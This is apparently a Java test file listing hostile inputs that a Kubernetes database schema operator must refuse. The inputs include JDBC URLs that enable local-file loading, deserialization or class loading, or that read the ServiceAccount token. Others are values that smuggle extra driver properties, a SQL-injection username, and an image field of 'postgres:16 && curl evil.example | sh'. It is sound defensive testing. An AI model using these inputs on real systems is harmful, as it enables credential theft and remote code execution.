package io.dbops.schemaoperator.hostile;

import static io.dbops.schemaoperator.hostile.HostileInput.Expected.stalled;
import static io.dbops.schemaoperator.hostile.HostileInput.Expected.waiting;

import io.dbops.schemaoperator.hostile.HostileInput.Expected;
import io.dbops.schemaoperator.hostile.HostileInput.Kind;
import io.dbops.schemaoperator.hostile.HostileInput.Operator;
import io.dbops.schemaoperator.hostile.HostileInput.Setup;
import io.dbops.schemaoperator.testing.Namespace;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.apps.StatefulSetBuilder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Inputs the CRDs admit (each row checks that they do) or that an older CRD left in the store,
 * which the running operator must refuse: a Secret's content, what a URL inside a Secret says, the
 * operator's own settings, objects of other namespaces or of other owners, an approval that names
 * no plan. Hosts, ports and URLs point at the tripwire, where no connection may arrive.
 */
final class OperatorRows {
  private static final String CONFIGURATION_INVALID = "ConfigurationInvalid";
  private static final String SECRET_INVALID = "SecretInvalid";
  /** Another team's namespace, whose objects the rows name as if they were their own. */
  static final String ELSEWHERE = "hostile-elsewhere";

  private OperatorRows() {}

  static List<Operator> all() {
    List<Operator> rows = new ArrayList<>();
    // --- urlFrom URLs: another engine's scheme, classes, files, redirects, deserialization ----------------------
    rows.add(url("a MySQL URL asking for LOCAL INFILE on a postgres connection", "postgres",
        ns -> "jdbc:mysql://127.0.0.1:" + ns.tripwirePort() + "/app?allowLoadLocalInfile=true&user=app&password=" + pw(ns),
        "starts with 'jdbc:mysql:', but spec.engine postgres needs"));
    rows.add(url("a SQL Server URL on a postgres connection", "postgres",
        ns -> "jdbc:sqlserver://127.0.0.1:" + ns.tripwirePort() + ";user=app;password=" + pw(ns),
        "starts with 'jdbc:sqlserver:', but spec.engine postgres needs"));
    rows.add(url("a URL of an engine the operator has no driver for (H2 over TCP)", "postgres",
        ns -> "jdbc:h2:tcp://127.0.0.1:" + ns.tripwirePort() + "/~/app;USER=app;PASSWORD=" + pw(ns),
        "starts with 'jdbc:h2:', but spec.engine postgres needs"));
    rows.add(url("a postgres URL whose socketFactory loads a class", "postgres",
        ns -> pgUrl(ns, "socketFactory=javax.net.DefaultSocketFactory"), "property 'socketFactory' is not allowed"));
    rows.add(url("a postgres URL whose sslrootcert reads the operator's ServiceAccount token", "postgres",
        ns -> pgUrl(ns, "sslmode=verify-full&sslrootcert=/var/run/secrets/kubernetes.io/serviceaccount/token"),
        "property 'sslrootcert' is not allowed"));
    rows.add(url("a postgres URL whose loggerFile writes a file of the operator pod", "postgres",
        ns -> pgUrl(ns, "loggerFile=/tmp/trace.log"), "property 'loggerFile' is not allowed"));
    rows.add(url("a postgres URL with a second host to fail over to", "postgres",
        ns -> "jdbc:postgresql://127.0.0.1:" + ns.tripwirePort() + ",10.0.0.1:5432/app?user=app&password=" + pw(ns),
        "is not of the plain form"));
    rows.add(url("a postgres URL whose PGHOST alias sends the probe elsewhere", "postgres",
        ns -> pgUrl(ns, "PGHOST=10.0.0.1&PGPORT=" + ns.tripwirePort()), "property 'PGHOST' is not allowed"));
    rows.add(url("a postgres URL whose connect timeout would hold a reconcile thread for a day", "postgres",
        ns -> pgUrl(ns, "connectTimeout=86400"), "property 'connectTimeout' must be"));
    rows.add(url("a MySQL URL asking for LOCAL INFILE on a mysql connection", "mysql",
        ns -> mysqlUrl(ns, "allowLoadLocalInfile=true"), "property 'allowLoadLocalInfile' is not allowed"));
    rows.add(url("a MySQL URL that deserializes Java objects the server sends", "mariadb",
        ns -> mysqlUrl(ns, "autoDeserialize=true"), "property 'autoDeserialize' is not allowed"));
    rows.add(url("a MySQL URL that loads interceptor classes", "mysql",
        ns -> mysqlUrl(ns, "queryInterceptors=com.evil.Interceptor"), "property 'queryInterceptors' is not allowed"));
    rows.add(url("a MySQL load-balancing URL over two hosts", "mysql",
        ns -> "jdbc:mysql:loadbalance://127.0.0.1:" + ns.tripwirePort() + ",10.0.0.1:3306/app?user=app&password=" + pw(ns),
        "is not of the plain form"));
    rows.add(url("a MySQL URL that looks its host up in DNS SRV records", "mariadb",
        ns -> "jdbc:mysql+srv://_mysql._tcp.evil.example/app?user=app&password=" + pw(ns), "starts with 'jdbc:mysql+srv:'"));
    rows.add(url("a SQL Server URL whose serverName property redirects the probe", "sqlserver",
        ns -> "jdbc:sqlserver://127.0.0.1:" + ns.tripwirePort() + ";serverName=10.0.0.1;user=app;password=" + pw(ns),
        "property 'serverName' is not allowed"));
    rows.add(url("a SQL Server URL that logs in with the operator's own Kerberos identity", "sqlserver",
        ns -> "jdbc:sqlserver://127.0.0.1:" + ns.tripwirePort() + ";integratedSecurity=true;authenticationScheme=JavaKerberos",
        "property 'integratedSecurity' is not allowed"));
    rows.add(url("a SQL Server URL naming an instance, which the driver looks up over UDP", "sqlserver",
        ns -> "jdbc:sqlserver://127.0.0.1\\\\evil;user=app;password=" + pw(ns), "is not of the plain form"));

    // --- parameter values the CRD cannot judge -------------------------------------------------------------------
    rows.add(external("a connect timeout of a day in parameters", "postgres", "parameters: {connectTimeout: \"86400\"}",
        stalled(CONFIGURATION_INVALID), "parameter 'connectTimeout' must be"));
    rows.add(external("a SQL Server parameter value that smuggles in integratedSecurity after ';'", "sqlserver",
        "parameters: {applicationName: \"app;integratedSecurity=true\"}", stalled(CONFIGURATION_INVALID),
        "parameter 'applicationName' contains ';'"));
    rows.add(external("a postgres parameter value that smuggles in socketFactory after '&'", "postgres",
        "parameters: {ApplicationName: \"app&socketFactory=javax.net.DefaultSocketFactory\"}", stalled(CONFIGURATION_INVALID),
        "parameter 'ApplicationName' contains '&'"));
    rows.add(external("a boolean driver property that is no boolean", "mariadb", "parameters: {tcpKeepAlive: maybe}",
        stalled(CONFIGURATION_INVALID), "parameter 'tcpKeepAlive' must be"));

    // --- Secrets that cannot be a login ----------------------------------------------------------------------------
    rows.add(login("a password that is not UTF-8", ns -> ns.rawSecret("app-db", Map.of("username", bytes("app"),
        "password", concat(bytes(pw(ns)), new byte[] {(byte) 0xE9, (byte) 0xFF}))), SECRET_INVALID,
        "Secret app-db key password is not UTF-8 text"));
    rows.add(login("an empty user name", ns -> ns.rawSecret("app-db", Map.of("username", new byte[0], "password", bytes(pw(ns)))),
        SECRET_INVALID, "the credentials Secret has an empty username"));
    rows.add(login("a user name of 1 MiB", ns -> ns.rawSecret("app-db", Map.of("username", bytes("u".repeat(1 << 20)),
        "password", bytes(pw(ns)))), SECRET_INVALID, "username is longer than 128 characters"));
    rows.add(login("a user name with a line break that would forge a log line", ns -> ns.secret("app-db",
        Map.of("username", "app\nERROR operator compromised", "password", pw(ns))), SECRET_INVALID, "holds control characters"));
    rows.add(login("a password of 5000 characters", ns -> ns.secret("app-db", Map.of("username", "app",
        "password", pw(ns) + "x".repeat(5000))), SECRET_INVALID, "password is longer than 4096 characters"));
    rows.add(login("a password with a NUL character", ns -> ns.secret("app-db", Map.of("username", "app",
        "password", pw(ns) + "\0tail")), SECRET_INVALID, "holds a NUL character"));
    rows.add(login("a Secret without the password key", ns -> ns.secret("app-db", Map.of("username", "app")),
        "SecretKeyMissing", "Secret app-db has no key password"));
    rows.add(login("a Secret that exists only in another namespace", ns -> ns.cluster().secret(ELSEWHERE, "app-db",
        Map.of("username", "app", "password", ns.password())), "SecretNotFound", "Secret app-db not found in this namespace"));
    rows.add(url("a urlFrom Secret holding no JDBC URL", "postgres",
        ns -> "postgres://app:" + pw(ns) + "@127.0.0.1:" + ns.tripwirePort() + "/app", stalled(SECRET_INVALID),
        "does not hold a JDBC URL"));
    rows.add(url("a urlFrom URL of 9000 characters", "postgres",
        ns -> pgUrl(ns, "ApplicationName=" + "a".repeat(9000)), stalled(SECRET_INVALID), "JDBC URL is longer than 8192 characters"));
    rows.add(row("an empty password, tried against the real server", Kind.DatabaseConnection, stalled("AuthenticationFailed"),
        "the password is an empty string. Check the username and password in the credentials Secret", ns -> {
          ns.secret("app-db", Map.of("username", "app", "password", ""));
          ns.create(realConnectionYaml(ns));
        }));
    rows.add(row("a user name that tries SQL injection, tried against the real server", Kind.DatabaseConnection,
        stalled("AuthenticationFailed"), "password authentication failed for user \"app'; DROP ROLE app; --\"", ns -> {
          ns.secret("app-db", Map.of("username", "app'; DROP ROLE app; --", "password", pw(ns)));
          ns.create(realConnectionYaml(ns));
        }));

    // --- TLS without a usable CA ---------------------------------------------------------------------------------
    rows.add(external("tls.mode verify-full with an empty CA", "postgres",
        "tls: {mode: verify-full, caSecretRef: {name: db-ca, key: ca.crt}}", stalled(SECRET_INVALID),
        "Secret db-ca key ca.crt (tls.caSecretRef) holds no certificate", ns -> ns.secret("db-ca", Map.of("ca.crt", ""))));
    rows.add(external("tls.mode verify-ca with a CA that is no certificate", "postgres",
        "tls: {mode: verify-ca, caSecretRef: {name: db-ca, key: ca.crt}}", stalled(SECRET_INVALID),
        "Secret db-ca key ca.crt (tls.caSecretRef) holds no certificate",
        ns -> ns.secret("db-ca", Map.of("ca.crt", "-----BEGIN CERTIFICATE-----\nnot base64 at all\n-----END CERTIFICATE-----\n"))));
    rows.add(external("tls.mode verify-full with a CA Secret that does not exist", "postgres",
        "tls: {mode: verify-full, caSecretRef: {name: db-ca, key: ca.crt}}", stalled("SecretNotFound"), "Secret db-ca not found",
        ns -> { }));

    // --- managed instances the settings forbid or that would take what is not theirs ------------------------------
    rows.add(instance("an instance image the settings do not allow", "app-db", "image: docker.io/attacker/cryptominer:latest",
        stalled("ImageNotAllowed"), "is not allowed by this operator", ns -> { }));
    rows.add(instance("an instance image that is a shell command", "app-db", "image: \"postgres:16 && curl evil.example | sh\"",
        stalled("ImageNotAllowed"), "is not an image reference", ns -> { }));
    rows.add(instance("an instance named after a StatefulSet that is someone else's", "shop-db", "image: postgres:16",
        stalled("InstanceNameTaken"), "a StatefulSet named shop-db exists in this namespace", ns -> {
          ns.cluster().client().apps().statefulSets().inNamespace(ns.name()).resource(new StatefulSetBuilder()
              .withNewMetadata().withName("shop-db").withNamespace(ns.name()).endMetadata()
              .withNewSpec().withServiceName("shop").withNewTemplate().withNewSpec()
              .addNewContainer().withName("shop").withImage("shop:1").endContainer().endSpec().endTemplate().endSpec()
              .build()).create();
          ns.createdItself("StatefulSet", "shop-db");
        }));
    rows.add(new Operator("a SQL Server instance whose licence terms were not accepted", Kind.DatabaseConnection, "app-db",
        stalled("EulaNotAccepted"), "licence terms", false, ns -> ns.create("""
            apiVersion: dbops.io/v1alpha1
            kind: DatabaseConnection
            metadata: {name: app-db}
            spec:
              engine: sqlserver
              instance:
                image: mcr.microsoft.com/mssql/server:2022-latest
                storage: {size: 1Gi}
            """)));
    rows.add(new Operator("an instance whose name cannot be a Service name, stored past the CRD", Kind.DatabaseConnection,
        "db.prod", stalled("InstanceNameInvalid"), "'db.prod' cannot be a Service name", true,
        ns -> ns.storePastTheCrd("DatabaseConnection", "db.prod", """
            {"engine": "postgres", "instance": {"image": "postgres:16", "storage": {"size": "1Gi"}}}""")));
    rows.add(new Operator("a health check interval past a Java int, stored past the CRD", Kind.DatabaseConnection, "app-db",
        stalled(CONFIGURATION_INVALID), "spec.healthCheck.intervalSeconds", true,
        ns -> ns.storePastTheCrd("DatabaseConnection", "app-db", """
            {"engine": "postgres", "host": "127.0.0.1", "port": %d, "credentials": {"secretName": "app-db"},
             "healthCheck": {"intervalSeconds": 3000000000}}""".formatted(ns.tripwirePort()))));

    // --- schemas: images and ServiceAccounts the settings forbid, other namespaces' objects -------------------------
    rows.add(schema("a migrations image the settings do not allow", "migrations: {image: {ref: docker.io/attacker/app:1}}",
        stalled("ImageNotAllowed"), "spec.migrations.image.ref", ns -> { }));
    rows.add(schema("a migrations image reference that climbs out of the allowed repository",
        "migrations: {image: {ref: ghcr.io/acme/../../evil/app:1}}", stalled("ImageNotAllowed"), "is not an image reference",
        ns -> { }));
    rows.add(schema("a backup image the settings do not allow",
        inline() + "backup: {beforeMigrate: true, claimName: app-backups, image: docker.io/attacker/dump:1}",
        stalled("ImageNotAllowed"), "spec.backup.image \"docker.io/attacker/dump:1\" (docker.io/attacker/dump:1) is not allowed",
        ns -> { }));
    rows.add(schema("a migration Job running as the operator's own ServiceAccount",
        inline() + "job: {serviceAccountName: schema-operator}", stalled("ServiceAccountNotAllowed"),
        "spec.job.serviceAccountName \"schema-operator\" is not allowed", ns -> { }));
    rows.add(schema("a configMapRef to a ConfigMap that exists only in another namespace",
        "migrations: {configMapRefs: [{name: shared-migrations}]}", stalled("ConfigMapNotFound"),
        "ConfigMap shared-migrations named in spec.migrations.configMapRefs not found", ns ->
            ns.cluster().client().configMaps().inNamespace(ELSEWHERE).resource(new ConfigMapBuilder()
                .withNewMetadata().withName("shared-migrations").withNamespace(ELSEWHERE).endMetadata()
                .addToData("V1__steal.sql", "SELECT 1;").build()).createOr(existing -> existing.update())));
    rows.add(schema("a script under a ConfigMap's binaryData, which the operator's plan would not show",
        "migrations: {configMapRefs: [{name: app-migrations}]}", stalled(CONFIGURATION_INVALID),
        "ConfigMap app-migrations holds V2__hidden.sql under binaryData, where the operator does not read scripts",
        ns -> ns.create("""
            apiVersion: v1
            kind: ConfigMap
            metadata: {name: app-migrations}
            data:
              V1__create_users.sql: "CREATE TABLE users (id BIGINT PRIMARY KEY);"
            binaryData:
              V2__hidden.sql: %s
            """.formatted(java.util.Base64.getEncoder().encodeToString(bytes("CREATE TABLE hidden (id BIGINT);"))))));
    rows.add(schema("a Flyway callback in a ConfigMap that would run SQL at the operator's own read (beforeInfo.sql)",
        "migrations: {configMapRefs: [{name: app-migrations}]}", stalled(CONFIGURATION_INVALID),
        "not named the Flyway way", ns -> ns.create("""
            apiVersion: v1
            kind: ConfigMap
            metadata: {name: app-migrations}
            data:
              V1__create_users.sql: "CREATE TABLE users (id BIGINT PRIMARY KEY);"
              beforeInfo.sql: "CREATE TABLE planted (id BIGINT);"
            """)));
    rows.add(new Operator("a connectionRef to a connection that exists only in another namespace", Kind.DatabaseSchema, "app",
        waiting("ConnectionNotFound"), "DatabaseConnection shared-db not found in namespace", false, ns -> {
          // Another team's working connection.
          ns.cluster().secret(ELSEWHERE, "app-db", Map.of("username", RowNamespace.USER, "password", ns.password()));
          new Namespace(ns.cluster().client(), ELSEWHERE).create("""
              apiVersion: dbops.io/v1alpha1
              kind: DatabaseConnection
              metadata: {name: shared-db}
              spec:
                engine: postgres
                host: 127.0.0.1
                port: %d
                database: %s
                credentials: {secretName: app-db}
                tls: {mode: disable}
              """.formatted(ns.postgresPort(), RowNamespace.DATABASE));
          ns.create(schemaYaml(ns, "migrations: {configMapRefs: [{name: app-migrations}]}").replace("name: app-db", "name: shared-db"));
        }));
    rows.add(new Operator("two inline scripts of the same name, stored past the CRD", Kind.DatabaseSchema, "app",
        stalled(CONFIGURATION_INVALID), "names these scripts more than once: V1__create_users.sql", true, ns -> {
          ns.goodConnection();
          ns.storePastTheCrd("DatabaseSchema", "app", """
              {"connectionRef": {"name": "app-db"}, "schemas": ["%s"], "migrations": {"inline": [
                {"name": "V1__create_users.sql", "sql": "CREATE TABLE users (id BIGINT);"},
                {"name": "V1__create_users.sql", "sql": "CREATE TABLE admins (id BIGINT);"}]}}""".formatted(ns.id()));
        }));
    rows.add(new Operator("inline SQL past what one ConfigMap carries, stored past the CRD", Kind.DatabaseSchema, "app",
        stalled(CONFIGURATION_INVALID), "more than the 1048576 a ConfigMap can carry", true, ns -> {
          ns.goodConnection();
          ns.storePastTheCrd("DatabaseSchema", "app", """
              {"connectionRef": {"name": "app-db"}, "schemas": ["%s"], "migrations": {"inline": [
                {"name": "V1__big.sql", "sql": "CREATE TABLE big (id BIGINT);\\n%s"}]}}"""
              .formatted(ns.id(), "-".repeat(1024 * 1024)));
        }));
    rows.add(new Operator("a retry limit past a Java int, stored past the CRD", Kind.DatabaseSchema, "app",
        stalled(CONFIGURATION_INVALID), "spec.retry.limit", true, ns -> {
          ns.goodConnection();
          ns.storePastTheCrd("DatabaseSchema", "app", """
              {"connectionRef": {"name": "app-db"}, "schemas": ["%s"],
               "migrations": {"inline": [{"name": "V1__t.sql", "sql": "CREATE TABLE t (id BIGINT);"}]},
               "retry": {"limit": 3000000000}}""".formatted(ns.id()));
        }));

    rows.add(schema("placeholders too long for the migration Job's environment (200 KiB)",
        inline() + "placeholders: {big: \"" + "x".repeat(200 * 1024) + "\"}", stalled(CONFIGURATION_INVALID),
        "bytes in environment variable DBOPS_SCHEMA, more than the 131072 a process can be given", ns -> { }));

    // --- annotations with odd values -----------------------------------------------------------------------------
    rows.add(new Operator("an approval annotation that names no plan but a wildcard", Kind.DatabaseSchema, "app",
        waiting("ApprovalPending"), "the current approval names another plan", false, ns -> {
          ns.goodConnection();
          ns.create(schemaYaml(ns, inline() + "approval: Manual").replace("metadata: {name: app}",
              "metadata: {name: app, annotations: {dbops.io/approve: \"*\"}}"));
        }));
    rows.add(new Operator("an approval annotation of 100 KiB that starts with nothing like a plan", Kind.DatabaseSchema, "app",
        waiting("ApprovalPending"), "the current approval names another plan", false, ns -> {
          ns.goodConnection();
          ns.create(schemaYaml(ns, inline() + "approval: Manual").replace("metadata: {name: app}",
              "metadata: {name: app, annotations: {dbops.io/approve: \"" + "0".repeat(100 * 1024) + "\"}}"));
        }));
    return rows;
  }

  // --- row shapes ---------------------------------------------------------------------------------------------

  private static Operator row(String name, Kind kind, Expected expected, String message, Setup setup) {
    return new Operator(name, kind, kind == Kind.DatabaseConnection ? "app-db" : "app", expected, message, false, setup);
  }

  private interface Url {
    String of(RowNamespace ns);
  }

  /** A connection of {@code engine} whose urlFrom Secret holds the URL, refused as ConfigurationInvalid. */
  private static Operator url(String name, String engine, Url url, String message) {
    return url(name, engine, url, stalled(CONFIGURATION_INVALID), message);
  }

  private static Operator url(String name, String engine, Url url, Expected expected, String message) {
    return row(name, Kind.DatabaseConnection, expected, message, ns -> {
      ns.secret("app-url", Map.of("url", url.of(ns)));
      ns.create(connectionYaml(engine, "urlFrom: {secretKeyRef: {name: app-url, key: url}}"));
    });
  }

  /** An external connection at the tripwire, with a good-looking login and {@code extra} spec lines. */
  private static Operator external(String name, String engine, String extra, Expected expected, String message) {
    return external(name, engine, extra, expected, message, ns -> { });
  }

  private static Operator external(String name, String engine, String extra, Expected expected, String message, Setup more) {
    return row(name, Kind.DatabaseConnection, expected, message, ns -> {
      more.apply(ns);
      ns.secret("app-db", Map.of("username", "app", "password", pw(ns)));
      ns.create(connectionYaml(engine, """
          host: 127.0.0.1
          port: %d
          database: %s
          createDatabase: true
          credentials: {secretName: app-db}
          """.formatted(ns.tripwirePort(), ns.id()) + extra));
    });
  }

  /** A postgres connection at the tripwire whose Secret app-db {@code secret} writes. */
  private static Operator login(String name, Setup secret, String reason, String message) {
    return row(name, Kind.DatabaseConnection, stalled(reason), message, ns -> {
      secret.apply(ns);
      ns.create(connectionYaml("postgres", """
          host: 127.0.0.1
          port: %d
          database: %s
          createDatabase: true
          credentials: {secretName: app-db}
          tls: {mode: disable}""".formatted(ns.tripwirePort(), ns.id())));
    });
  }

  private static Operator instance(String name, String connection, String imageLine, Expected expected, String message,
      Setup more) {
    return new Operator(name, Kind.DatabaseConnection, connection, expected, message, false, ns -> {
      more.apply(ns);
      ns.create("""
          apiVersion: dbops.io/v1alpha1
          kind: DatabaseConnection
          metadata: {name: %s}
          spec:
            engine: postgres
            database: %s
            instance:
              %s
              storage: {size: 1Gi}
          """.formatted(connection, ns.id(), imageLine));
    });
  }

  /** A schema on a good connection, with {@code spec} lines beside connectionRef and schemas. */
  private static Operator schema(String name, String spec, Expected expected, String message, Setup more) {
    return row(name, Kind.DatabaseSchema, expected, message, ns -> {
      more.apply(ns);
      ns.goodConnection();
      ns.create(schemaYaml(ns, spec));
    });
  }

  static String inline() {
    return """
        migrations:
          inline:
            - {name: V1__create_users.sql, sql: "CREATE TABLE users (id BIGINT PRIMARY KEY);"}
        """;
  }

  static String schemaYaml(RowNamespace ns, String spec) {
    return """
        apiVersion: dbops.io/v1alpha1
        kind: DatabaseSchema
        metadata: {name: app}
        spec:
          connectionRef: {name: app-db}
          schemas: [%s]
        %s""".formatted(ns.id(), spec.indent(2));
  }

  private static String connectionYaml(String engine, String spec) {
    return """
        apiVersion: dbops.io/v1alpha1
        kind: DatabaseConnection
        metadata: {name: app-db}
        spec:
          engine: %s
        %s""".formatted(engine, spec.indent(2));
  }

  /** Postgres itself, with the row's own database to create: only a login it accepts gets that far. */
  private static String realConnectionYaml(RowNamespace ns) {
    return connectionYaml("postgres", """
        host: 127.0.0.1
        port: %d
        database: %s
        createDatabase: true
        credentials: {secretName: app-db}
        tls: {mode: disable}""".formatted(ns.postgresPort(), ns.id()));
  }

  private static String pgUrl(RowNamespace ns, String query) {
    return "jdbc:postgresql://127.0.0.1:" + ns.tripwirePort() + "/app?user=app&password=" + pw(ns) + "&" + query;
  }

  private static String mysqlUrl(RowNamespace ns, String query) {
    return "jdbc:mysql://127.0.0.1:" + ns.tripwirePort() + "/app?user=app&password=" + pw(ns) + "&" + query;
  }

  /** A password of this row alone, long enough for the leak scan to look for. */
  static String pw(RowNamespace ns) {
    return "Pw-" + ns.id() + "-S3cret";
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] joined = new byte[a.length + b.length];
    System.arraycopy(a, 0, joined, 0, a.length);
    System.arraycopy(b, 0, joined, a.length, b.length);
    return joined;
  }
}
